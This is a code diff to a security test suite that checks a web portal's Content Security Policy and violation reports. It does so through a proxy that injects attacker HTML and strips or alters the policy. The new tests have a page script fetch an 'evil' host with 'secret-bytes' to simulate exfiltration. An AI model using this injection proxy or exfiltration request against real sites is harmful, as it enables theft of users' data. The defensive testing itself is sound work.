@@ -18,14 +18,30 @@ const taken: string[] = []
 /** Stands before the portal and writes an attacker's text into its pages, the policy kept or taken away. */
 let injector: Server
 let careless: string
-let injected = { html: '', policy: true }
+let injected = { html: '', policy: true, added: '' }
+
+/** What browsers reported to it. */
+const reported: string[] = []
+
+async function takeReport(request: IncomingMessage, response: ServerResponse): Promise<void> {
+  const chunks: Buffer[] = []
+  for await (const chunk of request) chunks.push(chunk as Buffer)
+  const body = Buffer.concat(chunks)
+  reported.push(body.toString('utf8'))
+  const { status } = await fetch(`${origin}/reports/csp`, { method: 'POST', body })
+  response.writeHead(status).end()
+}
 
 async function injectInto(request: IncomingMessage, response: ServerResponse): Promise<void> {
+  if (request.url === '/reports/csp') return takeReport(request, response)
   const answered = await fetch(origin + request.url)
   const headers = new Headers(answered.headers)
   for (const name of ['content-encoding', 'content-length', 'transfer-encoding', 'connection'])
     headers.delete(name)
+  const policy = headers.get('content-security-policy')
   if (!injected.policy) headers.delete('content-security-policy')
+  // Chromium gathers the newer reports for a minute; the older ones it sends at once, where the newer are not asked for.
+  else headers.set('content-security-policy', `${policy?.replace('; report-to csp', '')}${injected.added}`)
   response.writeHead(answered.status, Object.fromEntries(headers))
   const isPage = headers.get('content-type')?.startsWith('text/html')
   const body = Buffer.from(await answered.arrayBuffer())
@@ -181,7 +197,7 @@ const PAGES = { 'an ordinary page': '/sign-in', 'a key page': '/csr' } as const
 async function tryOut(injection: Injection, path: string, policy: boolean) {
   taken.length = 0
   const watched = await watchedPage()
-  injected = { html: injection.html(), policy }
+  injected = { html: injection.html(), policy, added: '' }
   // The policy is tried, not what React makes of a page that is not as it wrote it.
   await watched.page.route('**/assets/*.js', (route) => route.abort())
   await watched.page.goto(careless + path)
@@ -225,6 +241,48 @@ describe('the policy of key pages', () => {
 
   it('lets nothing be fetched, not even of our own; that of others does', async () => {
     expect([await asks('/csr'), await asks('/sign-in')]).toEqual(['stopped', 'answered'])
+  })
+})
+
+describe('a report of what was stopped', () => {
+  /** A script of the page tries to send something out. */
+  async function fetchFrom(path: string, added = ''): Promise<void> {
+    reported.length = 0
+    injected = { html: '', policy: true, added }
+    const watched = await watchedPage()
+    await watched.page.goto(careless + path)
+    await watched.page.evaluate(
+      (there) =>
+        new Promise<void>((done) =>
+          setTimeout(() =>
+            fetch(there).then(
+              () => done(),
+              () => done(),
+            ),
+          ),
+        ),
+      `${evil}/taken?secret-bytes`,
+    )
+    await expect.poll(() => watched.violations).toEqual(['connect-src'])
+    await watched.page.context().close()
+  }
+
+  it('comes from an ordinary page, and is taken', async () => {
+    await fetchFrom('/sign-in')
+    await expect.poll(() => reported).toHaveLength(1)
+    expect(JSON.parse(reported[0] ?? '')).toMatchObject({
+      'csp-report': { 'effective-directive': 'connect-src' },
+    })
+    const taken = await fetch(`${origin}/reports/csp`, { method: 'POST', body: reported[0] ?? '' })
+    expect(taken.status).toBe(204)
+  })
+
+  it('comes from no key page, where it would carry out what was stopped', async () => {
+    await fetchFrom('/csr')
+    const without = [...reported]
+    await fetchFrom('/csr', '; report-uri /reports/csp')
+    await expect.poll(() => reported.join('')).toContain('secret-bytes')
+    expect(without).toEqual([])
   })
 })
 
